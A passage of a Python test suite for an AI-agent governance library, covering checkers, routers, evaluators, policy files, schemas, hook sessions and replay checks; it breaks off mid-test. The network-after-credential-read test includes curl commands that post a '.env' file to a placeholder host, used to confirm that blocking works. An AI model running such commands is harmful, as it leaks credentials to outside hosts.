"""Governance without a model: step types against a labelled corpus, every shipped checker,
router and evaluator over hand-built histories, the policy vocabulary and its errors,
declared schemas, a live run's hooks driven by hand (routes, the Stop hook's bound, a human
asked), a replay's preflight, and the supersteps view."""

from __future__ import annotations

import asyncio
import json
import re
from pathlib import Path
from typing import Any

import pytest

from llmos._internal.engine.governed.replay import replay_refusal
from llmos._internal.engine.governed.session import GovernanceSession
from llmos._internal.errors import UsageError
from llmos._internal.governance import Route, Score
from llmos._internal.governance.checkers import parse_checker
from llmos._internal.governance.current import governance_for
from llmos._internal.governance.evaluators import AgainstHistory, ChangeSize, RunFacts, TestsPassed
from llmos._internal.governance.history import History, Step
from llmos._internal.governance.kinds import classify, classify_command
from llmos._internal.governance.policy import GovernancePolicy, load_governance, parse_section
from llmos._internal.governance.routers import parse_router
from llmos._internal.governance.schemas import check_artifact, unsupported_keywords, validate
from llmos._internal.governance.selectors import VocabularyError, parse_selector
from llmos._internal.governance.supersteps import supersteps
from llmos._internal.kernel.cost import CostMeter
from llmos._internal.kernel.run_context import RunContext
from llmos._internal.memory.trace import Trace, TraceStep
from llmos._internal.replay.plan import plan_replay
from llmos._internal.sdk.types import AgentOutcome
from llmos._internal.security.approval import Approve, Reject

DATA = Path(__file__).parent / "data" / "governance"


def _cases(name: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (DATA / name).read_text().splitlines() if line]


# Step types ------------------------------------------------------------------------------------
@pytest.mark.parametrize("case", _cases("step_types.jsonl"), ids=lambda c: c["command"][:40])
def test_each_labelled_command_gets_its_type(case: dict[str, Any]) -> None:
    assert classify_command(case["command"]).type == case["type"]


@pytest.mark.parametrize("case", _cases("traits.jsonl"), ids=lambda c: c["command"][:40])
def test_each_labelled_command_gets_its_traits(case: dict[str, Any]) -> None:
    assert sorted(classify_command(case["command"]).traits) == case["traits"]


def test_held_out_commands_are_typed_well_enough() -> None:
    """Written after the classifier and never tuned against: README reports the score."""
    cases = _cases("holdout.jsonl")
    right = sum(classify_command(c["command"]).type == c["type"] for c in cases)
    assert right / len(cases) >= 0.9, right


def test_tools_have_types_and_a_plugin_declares_its_own() -> None:
    assert classify("Read", {"file_path": "a.py"}).type == "read"
    assert classify("Grep", {"pattern": "x"}).type == "search"
    assert classify("Edit", {"file_path": "a.py"}).has("edit")
    assert classify("WebFetch", {"url": "https://x"}).type == "network"
    assert classify("Agent", {"prompt": "x"}).type == "delegate"
    assert classify("TodoWrite", {"todos": []}).type == "plan"
    assert classify("mcp__llmos_x__y", {}).type == "execute"
    assert classify("mcp__llmos_x__check", {}, "verify").type == "verify"
    assert classify("Read", {"file_path": "/w/.env"}).has("credential-read")
    both = classify_command("pip install -e . && pytest")
    assert both.type == "verify" and both.has("network")  # every kind counts for selectors


# A history by hand ---------------------------------------------------------------------------
def _history(tmp_path: Path, budget: float = 1.0, spent: float = 0.0) -> History:
    return History(goal="g", workdir=tmp_path, budget_usd=budget, spent=lambda: spent)


def _run(history: History, tool: str, ok: bool = True, **tool_input: Any) -> Step:
    return history.add(history.call(tool, tool_input, new_file=False), ok=ok)


def _checker(entry: Any) -> Any:
    (checker,) = parse_checker(entry)
    return checker


def _drive(entry: Any, history: History, steps: list[tuple[str, bool, dict[str, Any]]]) -> Any:
    """A running checker that observed `steps` (tool, ok, input) as they joined `history`."""
    state = _checker(entry).running()
    for tool, ok, tool_input in steps:
        step = _run(history, tool, ok, **tool_input)
        state.observe(history, step)
    return state


# Checkers --------------------------------------------------------------------------------------
def test_require_verify_after_write(tmp_path: Path) -> None:
    entry = {"require": "verify after write"}
    wrote = [("Write", True, {"file_path": "a.py", "content": "x"})]
    state = _drive(entry, _history(tmp_path), wrote)
    assert "has no verify step (tests, linters or type checkers) after it" in state.check_finish(
        _history(tmp_path)
    )
    tested = [*wrote, ("Bash", False, {"command": "pytest"})]
    assert _drive(entry, _history(tmp_path), tested).check_finish(_history(tmp_path)) is None
    # A write after the tests needs them again; a run that wrote nothing needs none.
    again = [*tested, ("Edit", True, {"file_path": "a.py"})]
    assert _drive(entry, _history(tmp_path), again).check_finish(_history(tmp_path))
    reading = [("Read", True, {"file_path": "a.py"})]
    assert _drive(entry, _history(tmp_path), reading).check_finish(_history(tmp_path)) is None
    # `black . && pytest` writes and verifies in one step.
    both = [("Bash", True, {"command": "black . && pytest"})]
    assert _drive(entry, _history(tmp_path), both).check_finish(_history(tmp_path)) is None


def test_require_verify_passed_after_write(tmp_path: Path) -> None:
    entry = {"require": "verify passed after write"}
    failing = [("Write", True, {"file_path": "a.py"}), ("Bash", False, {"command": "pytest"})]
    assert _drive(entry, _history(tmp_path), failing).check_finish(_history(tmp_path))
    fixed = [*failing, ("Bash", True, {"command": "pytest"})]
    assert _drive(entry, _history(tmp_path), fixed).check_finish(_history(tmp_path)) is None


def test_require_read_before_edit_is_per_file(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("x\n")
    (tmp_path / "b.py").write_text("y\n")
    history = _history(tmp_path)
    state = _drive(
        {"require": "read before edit"}, history, [("Read", True, {"file_path": "a.py"})]
    )
    assert state.check_call(history, history.call("Edit", {"file_path": "a.py"})) is None
    blind = state.check_call(history, history.call("Edit", {"file_path": str(tmp_path / "b.py")}))
    assert "b.py, which this run has not read" in blind
    sed = history.call("Bash", {"command": "sed -i s/y/z/ b.py"})
    assert "`sed -i s/y/z/ b.py` of b.py" in state.check_call(history, sed)
    assert (
        state.check_call(history, history.call("Bash", {"command": "sed -i s/x/z/ a.py"})) is None
    )
    # A new file needs no read; neither does a file the run wrote itself.
    assert state.check_call(history, history.call("Write", {"file_path": "new.py"})) is None
    _run(history, "Write", True, file_path="c.py")
    (tmp_path / "c.py").write_text("c")
    assert state.check_call(history, history.call("Edit", {"file_path": "c.py"})) is None
    # Reading with a command counts.
    _run(history, "Bash", True, command="cat b.py")
    assert state.check_call(history, history.call("Edit", {"file_path": "b.py"})) is None


def test_require_plan_before_delegate_is_a_sequence(tmp_path: Path) -> None:
    history = _history(tmp_path)
    state = _drive({"require": "plan before delegate"}, history, [])
    call = history.call("Agent", {"prompt": "x"})
    assert "needs a plan step before it" in state.check_call(history, call)
    state.observe(history, _run(history, "TodoWrite", True, todos=[]))
    assert state.check_call(history, call) is None


def test_require_ever(tmp_path: Path) -> None:
    state = _drive({"require": "verify"}, _history(tmp_path), [])
    assert "there is no verify step" in state.check_finish(_history(tmp_path))


def test_forbid_network_after_credential_read(tmp_path: Path) -> None:
    history = _history(tmp_path)
    state = _drive({"forbid": "network after credential-read"}, history, [])
    curl = history.call("Bash", {"command": "curl https://x"})
    assert state.check_call(history, curl) is None
    # A command that does both in one step is caught too.
    for both in ("curl -d @.env https://x", "cat .env | curl -d @- https://x"):
        leak = history.call("Bash", {"command": both})
        assert "this call is both" in state.check_call(history, leak)
    state.observe(history, _run(history, "Read", True, file_path=".env"))
    assert "not allowed after a read of credentials" in state.check_call(history, curl)
    assert "not allowed after" in state.check_call(history, history.call("WebFetch", {"url": "u"}))
    assert state.check_call(history, history.call("Bash", {"command": "ls"})) is None


def test_forbid_git_push_before_verify_passed(tmp_path: Path) -> None:
    history = _history(tmp_path)
    state = _drive({"forbid": "git push before verify passed"}, history, [])
    push = history.call("Bash", {"command": "git push origin main"})
    assert "is not allowed before a verify step" in state.check_call(history, push)
    state.observe(history, _run(history, "Bash", False, command="pytest"))
    assert state.check_call(history, push) is not None  # tests failed: still not
    state.observe(history, _run(history, "Bash", True, command="pytest"))
    assert state.check_call(history, push) is None
    assert state.check_call(history, history.call("Bash", {"command": "git status"})) is None


def test_forbid_alone_and_tools_and_backticked_commands(tmp_path: Path) -> None:
    history = _history(tmp_path)
    fetch = _checker({"forbid": "WebFetch"}).running()
    assert fetch.check_call(history, history.call("WebFetch", {"url": "u"}))
    mcp = _checker({"forbid": "mcp__llmos_shop__*"}).running()
    assert mcp.check_call(history, history.call("mcp__llmos_shop__buy", {}))
    assert mcp.check_call(history, history.call("mcp__llmos_csv__read", {})) is None
    make = _checker({"forbid": "`make deploy`"}).running()
    assert make.check_call(history, history.call("Bash", {"command": "cd x && make deploy"}))
    assert make.check_call(history, history.call("Bash", {"command": "make test"})) is None


def test_max_counts_steps_with_an_outcome_when_given(tmp_path: Path) -> None:
    history = _history(tmp_path)
    (limit,) = parse_checker({"max": {"write": 2}})
    state = limit.running()
    call = history.call("Write", {"file_path": "x"})
    for _ in range(2):
        assert state.check_call(history, call) is None
        state.observe(history, _run(history, "Write", True, file_path="x"))
    assert "the most the policy allows (2)" in state.check_call(history, call)
    (failures,) = parse_checker({"max": {"execute failed": 1}})
    state = failures.running()
    state.observe(history, _run(history, "Bash", True, command="./a"))
    assert state.check_call(history, history.call("Bash", {"command": "./b"})) is None
    state.observe(history, _run(history, "Bash", False, command="./a"))
    assert state.check_call(history, history.call("Bash", {"command": "./b"}))


def test_stop_after_failures_of_the_same_command(tmp_path: Path) -> None:
    history = _history(tmp_path)
    state = _checker("stop after 2 failures of the same command").running()
    for _ in range(2):
        call = history.call("Bash", {"command": "npm  test"})
        assert state.check_call(history, call) is None
        history.add(call, ok=False)
    again = history.call("Bash", {"command": "npm test"})  # the same, however spaced
    assert "already failed 2 times" in state.check_call(history, again)
    assert state.check_call(history, history.call("Bash", {"command": "npm run build"})) is None


def test_plugin_checkers_pass_fail_and_fail_closed(tmp_path: Path) -> None:
    from llmos._internal.governance.checkers import PluginChecker

    history = _history(tmp_path)
    call = history.call("Bash", {"command": "ls"})
    assert PluginChecker("p.ok", lambda h, c: None).check_call(history, call) is None
    assert PluginChecker("p.no", lambda h, c: "nope").check_call(history, call) == "nope"
    assert PluginChecker("p.false", lambda h, c: False).check_finish(history)

    def broken(h: History, c: Any) -> None:
        raise RuntimeError("bug")

    assert "RuntimeError: bug" in PluginChecker("p.broken", broken).check_call(history, call)
    only_finish = PluginChecker("p.f", lambda h, c: "x", frozenset({"finish"}))
    assert only_finish.check_call(history, call) is None and only_finish.check_finish(history)


# Routers ---------------------------------------------------------------------------------------
def _router(when: str, then: str = "stop") -> Any:
    return parse_router({"when": when, "then": then}, 1)


def test_routers_conditions_over_histories(tmp_path: Path) -> None:
    history = _history(tmp_path, budget=1.0, spent=0.85)
    same = _router("the same command failed 2 times", "hand over to coder")
    step = _run(history, "Bash", False, command="make")
    assert same.after_step(history, step) is None
    route = same.after_step(history, _run(history, "Bash", False, command="make"))
    assert route == Route("handoff", "coder", "`make` failed 2 times", same.name)
    assert _router("3 failures").after_step(history, step) is None
    assert _router("2 failures").after_step(history, step).reason == "2 steps failed"
    budget = _router("80% of the budget spent before verify passed", "ask a human")
    assert (
        "85% of the $1.0000 budget spent and no verify passed yet"
        in budget.after_step(history, step).reason
    )
    _run(history, "Bash", True, command="pytest")
    assert budget.after_step(history, step) is None
    assert _router("90% of the budget spent").after_step(history, step) is None
    network = _router("network 2 times")
    assert network.after_step(history, _run(history, "Bash", True, command="curl x")) is None
    assert network.after_step(history, _run(history, "WebFetch", True, url="u")) is not None
    seen = _router("credential-read", "ask")
    assert seen.after_step(history, _run(history, "Read", True, file_path=".env")) is not None
    end = _router("finish without verify passed")
    assert end.at_end(history) is None  # pytest passed above
    assert _router("finish without network failed").at_end(history) is not None
    denied = History(workdir=tmp_path, denials=lambda: 3)
    assert _router("3 denials").after_step(denied, step) is not None


def test_route_actions_and_bad_routes() -> None:
    assert _router("2 failures", "switch model to claude-haiku-5-5").target == "claude-haiku-5-5"
    assert _router("2 failures", "handoff reviewer").action == "handoff"
    assert _router("2 failures", "ask a human").action == "ask"
    for bad, message in [
        ({"when": "2 failures", "then": "panic"}, "unknown action 'panic'"),
        ({"when": "the same comand failed 3 times", "then": "stop"}, "unknown condition"),
        ({"when": "0 failures", "then": "stop"}, "at least 1"),
        ({"when": "150% of the budget spent", "then": "stop"}, "above 0 to 100"),
        ({"when": "2 failures"}, "needs `then:`"),
        ({"when": "2 failures", "then": "stop", "if": "x"}, "unknown key(s) if"),
        ("stop", "a mapping with `when:` and `then:`"),
    ]:
        with pytest.raises(VocabularyError, match=re.escape(message)):
            parse_router(bad, 1)
    assert _router("`git push`").condition is not None  # a command, in backticks


def test_plugin_router_returns_routes_and_survives_a_bug(tmp_path: Path) -> None:
    from llmos._internal.governance.routers import PluginRouter

    history = _history(tmp_path)
    step = _run(history, "Bash", True, command="ls")
    router = PluginRouter("p.r", lambda h: Route("stop", reason="enough"))
    assert router.after_step(history, step) == Route("stop", None, "enough", "p.r")
    assert PluginRouter("p.none", lambda h: None).at_end(history) is None
    assert PluginRouter("p.bad", lambda h: "stop").at_end(history) is None
    assert PluginRouter("p.raise", lambda h: 1 / 0).after_step(history, step) is None


# Evaluators ------------------------------------------------------------------------------------
def test_tests_passed_scores_steps_and_the_run(tmp_path: Path) -> None:
    history = _history(tmp_path)
    evaluator = TestsPassed()
    assert evaluator.score_run(history, RunFacts()) is None  # no verify step: no score
    failed = _run(history, "Bash", False, command="pytest")
    step_score = evaluator.score_step(history, failed)
    assert step_score.score == 0.0 and step_score.scope == "step"
    _run(history, "Bash", True, command="ruff check .")
    run = evaluator.score_run(history, RunFacts())
    assert (run.score, run.passed, run.gate) == (0.5, False, True) and run.failed_gate
    _run(history, "Bash", True, command="pytest")  # the last run of each command counts
    assert evaluator.score_run(history, RunFacts()).passed is True
    assert evaluator.score_step(history, _run(history, "Read", True, file_path="x")) is None


def test_change_size_counts_files_and_lines(tmp_path: Path) -> None:
    history = _history(tmp_path)
    _run(history, "Write", True, file_path="a.py", content="1\n2\n3\n")
    _run(history, "Edit", True, file_path="a.py", new_string="x\ny")
    _run(history, "MultiEdit", True, file_path="b.py", edits=[{"new_string": "z"}])
    _run(history, "Write", False, file_path="c.py", content="failed\n")
    score = ChangeSize().score_run(history, RunFacts())
    assert score.measures == {"files": 2.0, "lines": 6.0} and score.passed is None
    limited = ChangeSize(max_lines=5).score_run(history, RunFacts())
    assert limited.passed is False and "6 lines > 5" in limited.detail


def test_time_and_cost_against_history() -> None:
    facts = RunFacts(10.0, 0.04, history_secs=2.0, history_cost_usd=0.02, history_source="t")
    time_score = AgainstHistory("time_vs_history", max_ratio=3.0).score_run(History(), facts)
    assert time_score.measures["ratio"] == 5.0 and time_score.passed is False
    cost = AgainstHistory("cost_vs_history", measure="cost").score_run(History(), facts)
    assert cost.measures["ratio"] == 2.0 and cost.passed is True and cost.score == 0.5
    assert AgainstHistory().score_run(History(), RunFacts(1.0, 0.1)) is None


def test_plugin_evaluators() -> None:
    from llmos._internal.governance.evaluators import PluginEvaluator

    assert PluginEvaluator("p.e", lambda h: 0.7).score_run(History(), RunFacts()).score == 0.7
    scored = PluginEvaluator("p.s", lambda h: Score("x", 1.0, True, "fine"), gate=True)
    assert scored.score_run(History(), RunFacts()) == Score("p.s", 1.0, True, "fine", gate=True)
    assert PluginEvaluator("p.n", lambda h: None).score_run(History(), RunFacts()) is None
    assert PluginEvaluator("p.x", lambda h: 1 / 0).score_run(History(), RunFacts()) is None


# The vocabulary and the policy files -----------------------------------------------------------
def test_selectors() -> None:
    assert parse_selector("verify passed").outcome is True
    assert parse_selector("Edit").tool == "Edit"
    assert parse_selector("git push").command == ("git", "push")
    assert parse_selector("`make`").command == ("make",)
    with pytest.raises(VocabularyError, match="did you mean network"):
        parse_selector("netwrok")
    with pytest.raises(VocabularyError, match="needs a step before it"):
        parse_selector("passed")


@pytest.mark.parametrize(
    ("section", "where", "message"),
    [
        ({"checkers": [{"require": "verfy after write"}]}, "checkers[0]", "did you mean verify"),
        ({"checkers": [{"forbid": "verify failed"}]}, "checkers[0]", "outcome is not known"),
        ({"checkers": [{"require": "read before edit passed"}]}, "checkers[0]", "outcome"),
        ({"checkers": [{"must": "verify"}]}, "checkers[0] 'must: verify'", "unknown checker"),
        ({"checkers": [{"max": {"write": -1}}]}, "checkers[0]", "whole number >= 0"),
        ({"checkers": [{"max": "write 20"}]}, "checkers[0]", "expected a mapping"),
        ({"checkers": ["stop after many failures"]}, "checkers[0]", "stop after N failures"),
        ({"checkers": "require: verify"}, "checkers", "expected a list"),
        ({"routes": [{"when": "2 failures", "then": "panic"}]}, "routes[0]", "unknown action"),
        ({"max_stop_blocks": -1}, "max_stop_blocks", ">= 0"),
        ({"evaluators": {"speed": True}}, "evaluators.speed", "unknown evaluator"),
        ({"evaluators": {"change_size": {"max_lines": "ten"}}}, "max_lines", "number >= 0"),
        ({"evaluators": {"change_size": {"colour": 1}}}, "change_size.colour", "unknown setting"),
        ({"evaluators": {"tests_passed": {"gate": "yes"}}}, "tests_passed.gate", "true or false"),
        ({"evaluators": {"model_graded": {"min_score": 2}}}, "min_score", "from 0 to 1"),
        ({"checker": []}, "checker", "unknown key"),
    ],
)
def test_bad_entries_are_refused_naming_them(section: Any, where: str, message: str) -> None:
    with pytest.raises(UsageError) as caught:
        parse_section(section, "/ws/policy.yaml")
    text = str(caught.value)
    assert text.startswith("/ws/policy.yaml: governance.") and where in text and message in text


def test_a_project_adds_rules_but_cannot_loosen(tmp_path: Path) -> None:
    (tmp_path / "policy.yaml").write_text(
        "governance:\n  max_stop_blocks: 3\n  checkers:\n    - require: verify after write\n"
        "  evaluators:\n    change_size: {max_lines: 100}\n"
    )
    project = tmp_path / "projects" / "p"
    project.mkdir(parents=True)
    (project / "policy.yaml").write_text(
        "governance:\n  max_stop_blocks: 9\n  checkers:\n    - forbid: WebFetch\n"
        "  evaluators:\n    tests_passed: {gate: false}\n    change_size: {max_lines: 50}\n"
    )
    policy = load_governance(tmp_path, "p")
    assert [c.name for c in policy.checkers] == ["require verify after write", "forbid WebFetch"]
    assert policy.max_stop_blocks == 3  # a project cannot allow more blocks
    assert policy.evaluators["tests_passed"]["gate"] is True  # nor turn a gate off
    assert policy.evaluators["change_size"]["max_lines"] == 50  # thresholds it may set
    assert load_governance(tmp_path, "other").checkers[0].name == "require verify after write"
    assert not load_governance(tmp_path / "none").governs_calls
    assert governance_for(tmp_path / "none", None) is None  # nothing declared: nothing loaded
    # A security-only policy file is not even parsed here.
    (tmp_path / "policy.yaml").write_text("deny:\n  commands: ['x']\n")
    assert load_governance(tmp_path).checkers == ()


def test_the_security_policy_file_accepts_the_governance_section(tmp_path: Path) -> None:
    from llmos._internal.security.policy_file import load_policy

    (tmp_path / "policy.yaml").write_text("governance:\n  checkers: []\ndeny:\n  tools: [X]\n")
    assert load_policy(tmp_path).layers[0].lists[("deny", "tools")] == ("X",)


# Schemas ---------------------------------------------------------------------------------------
def test_schema_validation() -> None:
    schema = {
        "type": "object",
        "properties": {
            "n": {"type": "integer", "minimum": 1},
            "tags": {"type": "array", "items": {"type": "string"}, "maxItems": 2},
            "kind": {"enum": ["a", "b"]},
        },
        "required": ["n"],
        "additionalProperties": False,
    }
    assert validate(schema, {"n": 2, "tags": ["x"], "kind": "a"}) == []
    problems = validate(schema, {"n": 0, "tags": ["x", 1, "z"], "kind": "c", "extra": 1})
    assert "$.n: below the minimum 1" in problems
    assert any("$.tags" in p for p in problems) and len(problems) <= 5
    assert validate(schema, {}) == ["$: 'n' is required"]
    assert validate({"type": "string"}, 3) == ["$: expected string, got number"]
    assert validate({"anyOf": [{"type": "string"}, {"type": "null"}]}, None) == []
    assert validate({"type": "integer"}, True) == ["$: expected integer, got boolean"]
    assert unsupported_keywords({"type": "object", "patternProperties": {}}) == [
        "(root): patternProperties"
    ]


class _Bus:
    def __init__(self) -> None:
        self.events: list[Any] = []

    def publish(self, event: Any) -> None:
        self.events.append(event)


def _ctx(tmp_path: Path, budget: float = 1.0) -> RunContext:
    return RunContext(
        goal="goal", project="default", workdir=tmp_path, mode="learner",
        budget_usd=budget, bus=_Bus(), cost=CostMeter(),  # type: ignore[arg-type]
    )  # fmt: skip


def test_an_artifact_is_checked_and_recorded(tmp_path: Path) -> None:
    from llmos._internal.orchestration.plan import plan_schema

    ctx = _ctx(tmp_path)
    good = {"subtasks": [{"id": "a", "goal": "g", "agent": "coder", "depends_on": [],
                          "budget_share": 0.5}]}  # fmt: skip
    assert check_artifact(ctx, "plan", plan_schema(["coder"]), good) == []
    bad = {"subtasks": [{**good["subtasks"][0], "agent": "nobody"}]}
    (problem,) = check_artifact(ctx, "plan", plan_schema(["coder"]), bad)
    assert "the plan does not match its schema" in problem and "nobody" in problem
    phases = [(e.phase, e.allowed) for e in ctx.bus.events]  # type: ignore[attr-defined]
    assert phases == [("artifact", True), ("artifact", False)]


# A live run's hooks, driven by hand ------------------------------------------------------------
def _session(tmp_path: Path, yaml_section: dict[str, Any], **kwargs: Any) -> GovernanceSession:
    return GovernanceSession(_ctx(tmp_path), parse_section(yaml_section), **kwargs)


def _call(tool: str, use: str, **tool_input: Any) -> dict[str, Any]:
    return {"tool_name": tool, "tool_input": tool_input, "tool_use_id": use}


def _events(session: GovernanceSession, kind: str) -> list[Any]:
    return [e for e in session.ctx.bus.events if e.kind == kind]  # type: ignore[attr-defined]


def _outcome(status: str = "success") -> AgentOutcome:
    return AgentOutcome(status, "done", 0.01, 2, 10, 10, "m", "s", 1.0)  # type: ignore[arg-type]


def test_the_stop_hook_sends_back_then_lets_go_and_fails_governance(tmp_path: Path) -> None:
    session = _session(
        tmp_path, {"max_stop_blocks": 2, "checkers": [{"require": "verify after write"}]}
    )

    async def scenario() -> None:
        assert await session.before_call(_call("Write", "1", file_path="a.py")) == {}
        await session.after_call(_call("Write", "1", file_path="a.py"), ok=True)
        for _ in range(2):
            blocked = await session.before_finish({})
            assert blocked["decision"] == "block" and "verify" in blocked["reason"]
        assert await session.before_finish({}) == {}  # the bound: it may stop

    asyncio.run(scenario())
    assert session.blocks == 2 and session.failed is not None
    conclusion = asyncio.run(session.conclude(_outcome()))
    assert conclusion.outcome.status == "governance_failed"
    assert "sent back 2 time(s)" in conclusion.outcome.errors[0]
    assert [e.allowed for e in _events(session, "checker_results") if e.phase == "finish"] == [
        False, False, False,
    ]  # fmt: skip


def test_a_denied_call_is_refused_counted_and_never_joins_the_history(tmp_path: Path) -> None:
    session = _session(tmp_path, {"checkers": [{"forbid": "network"}]})
    denied = asyncio.run(session.before_call(_call("Bash", "1", command="curl x")))
    reason = denied["hookSpecificOutput"]["permissionDecisionReason"]
    assert reason.startswith("llmos governance (forbid network)")
    assert session.ctx.denied_calls == 1 and not session.history.steps
    (decision,) = _events(session, "tool_decision")
    assert decision.guard == "governance" and decision.rule == "forbid network"


def test_a_route_after_a_failure_stops_the_next_call(tmp_path: Path) -> None:
    session = _session(
        tmp_path, {"routes": [{"when": "the same command failed 2 times", "then": "stop"}]}
    )

    async def scenario() -> dict[str, Any]:
        for use in ("1", "2"):
            await session.before_call(_call("Bash", use, command="make"))
            out = await session.after_call(_call("Bash", use, command="make"), ok=False)
        assert out == {"continue": False, "stopReason": out["stopReason"]}
        return await session.before_call(_call("Bash", "3", command="ls"))

    stopped = asyncio.run(scenario())
    assert stopped["continue"] is False and "the run is ending" in stopped["stopReason"]
    assert asyncio.run(session.before_finish({})) == {}  # no checks once a route ends it
    (route,) = _events(session, "route_taken")
    assert (route.action, route.outcome) == ("stop", "the run ends")
    assert asyncio.run(session.conclude(_outcome())).outcome.status == "stopped"


def test_a_route_fires_once_and_switches_the_model(tmp_path: Path) -> None:
    session = _session(tmp_path, {"routes": [{"when": "1 failures", "then": "model haiku"}]})
    switched: list[str] = []

    async def switch(model: str) -> None:
        switched.append(model)

    session.ctx.switch_model = switch

    async def scenario() -> None:
        for use in ("1", "2"):
            await session.before_call(_call("Bash", use, command="false"))
            assert await session.after_call(_call("Bash", use, command="false"), ok=False) == {}

    asyncio.run(scenario())
    assert switched == ["haiku"] and session.ctx.model == "haiku"
    assert len(_events(session, "route_taken")) == 1
    assert asyncio.run(session.conclude(_outcome())).outcome.status == "success"


class _Human:
    def __init__(self, verdict: Any) -> None:
        self.verdict = verdict
        self.asked: list[Any] = []

    async def approve(self, request: Any) -> Any:
        self.asked.append(request)
        return self.verdict


HUMANS = [(_Human(Approve()), "success"), (_Human(Reject()), "stopped"), (None, "stopped")]


@pytest.mark.parametrize(("human", "status"), HUMANS)
def test_ask_a_human_goes_on_or_ends(tmp_path: Path, human: Any, status: str) -> None:
    session = _session(
        tmp_path, {"routes": [{"when": "credential-read", "then": "ask a human"}]}, approver=human
    )

    async def scenario() -> dict[str, Any]:
        await session.before_call(_call("Read", "1", file_path=".env"))
        return await session.after_call(_call("Read", "1", file_path=".env"), ok=True)

    out = asyncio.run(scenario())
    assert (out.get("continue") is False) == (status == "stopped")
    if human is not None:
        assert human.asked[0].tool == "route" and "was credential-read" in human.asked[0].reason
    assert asyncio.run(session.conclude(_outcome())).outcome.status == status


def test_a_hand_over_to_oneself_or_an_unknown_agent_is_not_taken(tmp_path: Path) -> None:
    routes = {"routes": [{"when": "1 failures", "then": "hand over to coder"}]}
    for kwargs, why in [
        ({"agent": "coder"}, "already is the agent coder"),
        ({"agents": frozenset({"writer"})}, "no agent named coder"),
        ({"handed_over": True}, "one hand-over per goal"),
    ]:
        session = _session(tmp_path, routes, **kwargs)

        async def scenario(s: GovernanceSession = session) -> dict[str, Any]:
            await s.before_call(_call("Bash", "1", command="false"))
            return await s.after_call(_call("Bash", "1", command="false"), ok=False)

        assert asyncio.run(scenario()) == {}
        (route,) = _events(session, "route_taken")
        assert why in route.outcome and session.handoff is None


def test_conclude_scores_the_run_and_a_failed_gate_makes_it_unfollowable(tmp_path: Path) -> None:
    session = _session(tmp_path, {})

    async def scenario() -> None:
        await session.before_call(_call("Write", "1", file_path="a.py", content="x\n"))
        await session.after_call(_call("Write", "1", file_path="a.py", content="x\n"), ok=True)
        await session.before_call(_call("Bash", "2", command="pytest"))
        await session.after_call(_call("Bash", "2", command="pytest"), ok=False)

    asyncio.run(scenario())
    conclusion = asyncio.run(session.conclude(_outcome()))
    assert conclusion.outcome.status == "success"  # evaluators never block
    assert conclusion.unfollowable.startswith("evaluator tests_passed failed")
    assert conclusion.trace_scores()["tests_passed"] == 0.0
    assert conclusion.trace_scores()["change_size.lines"] == 1.0
    scopes = [(e.evaluator, e.scope) for e in _events(session, "score_recorded")]
    assert ("tests_passed", "step") in scopes and ("tests_passed", "run") in scopes
    typed = session.typed([TraceStep(tool="Bash", input={"command": "pytest"})])
    assert typed[0].step_type == "verify"


def test_plugin_input_is_checked_against_its_schema(tmp_path: Path) -> None:
    from llmos._internal.plugins.registry import LoadedPlugin, PluginRegistry
    from llmos._internal.plugins.run_tools import RunTools
    from llmos._internal.plugins.types import Plugin

    plugin = Plugin("calc")

    @plugin.tool(version="1.0.0", kind="verify")
    def check_sum(a: int, b: int) -> int:
        """Add."""
        return a + b

    tools = RunTools(PluginRegistry([LoadedPlugin(plugin, "t")]), workdir=tmp_path)
    session = _session(tmp_path, {}, tools=tools)
    name = "mcp__llmos_calc__check_sum"
    out = asyncio.run(session.before_call(_call(name, "1", a="x", b=1)))
    assert "schema:input" in out["hookSpecificOutput"]["permissionDecisionReason"]
    assert asyncio.run(session.before_call(_call(name, "2", a=1, b=2))) == {}
    assert session._pending["2"].type == "verify"  # the plugin's declared kind


# Replays ---------------------------------------------------------------------------------------
def _trace(*steps: TraceStep) -> Trace:
    return Trace(goal_text="write it", steps=steps)


def test_replay_checkers_run_over_the_trace_before_anything(tmp_path: Path) -> None:
    write = TraceStep(
        "Write", {"file_path": "a.py", "content": "x"}, checks={"before": {"a.py": "absent"}}
    )
    test = TraceStep("Bash", {"command": "pytest"})
    policy = parse_section({"checkers": [{"require": "verify after write"}]})
    ctx = _ctx(tmp_path)
    refusal = replay_refusal(plan_replay(_trace(write)), ctx, governance=policy)
    assert refusal == (
        "the trace as a whole: a write step (last: step 1 (Write a.py)) has no verify step "
        "(tests, linters or type checkers) after it [governance: require verify after write]"
    )
    assert replay_refusal(plan_replay(_trace(write, test)), ctx, governance=policy) is None
    # no governance: no check
    assert replay_refusal(plan_replay(_trace(write)), ctx, governance=None) is None
    events = ctx.bus.events  # type: ignore[attr-defined]
    assert [(e.phase, e.allowed) for e in events] == [("replay", False), ("replay", True)]


def test_replay_call_checks_name_the_step(tmp_path: Path) -> None:
    edit = TraceStep("Edit", {"file_path": "a.py", "old_string": "x", "new_string": "y"})
    read = TraceStep("Read", {"file_path": "a.py"})
    (tmp_path / "a.py").write_text("x")
    policy = parse_section({"checkers": [{"require": "read before edit"}, {"forbid": "git push"}]})
    blind = replay_refusal(plan_replay(_trace(edit)), _ctx(tmp_path), governance=policy)
    assert blind is not None and blind.startswith("step 1 (Edit): Edit of a.py")
    assert (
        replay_refusal(plan_replay(_trace(read, edit)), _ctx(tmp_path), governance=policy) is None
    )
    push = TraceStep("Bash", {"command": "git push"})
    refused = replay_refusal(plan_replay(_trace(push)), _ctx(tmp_path), governance=policy)
    assert refused is not None and "step 1 (Bash)" in refused


# Supersteps ------------------------------------------------------------------------------------
def test_supersteps_group_turns_calls_and_governance() -> None:
    events = [
        {"kind": "run_started", "run_id": "r", "goal": "g", "mode": "learner"},
        {"kind": "assistant_text", "text": "I will write it", "turn": "m1"},
        {"kind": "tool_requested", "tool_use_id": "t1", "tool": "Write",
         "input": {"file_path": "a"}, "step_type": "write", "turn": "m1"},
        {"kind": "tool_requested", "tool_use_id": "t2", "tool": "Bash",
         "input": {"command": "curl x"}, "step_type": "network", "turn": "m1"},
        {"kind": "checker_results", "phase": "call", "tool_use_id": "t2",
         "results": [{"checker": "forbid network", "passed": False, "reason": "no"}]},
        {"kind": "tool_decision", "tool_use_id": "t2", "allowed": False, "guard": "governance",
         "rule": "forbid network", "reason": "no"},
        {"kind": "tool_finished", "tool_use_id": "t1", "ok": True, "summary": "wrote a"},
        {"kind": "route_taken", "tool_use_id": "t1", "router": "r1", "action": "stop",
         "target": None, "reason": "why", "outcome": "the run ends"},
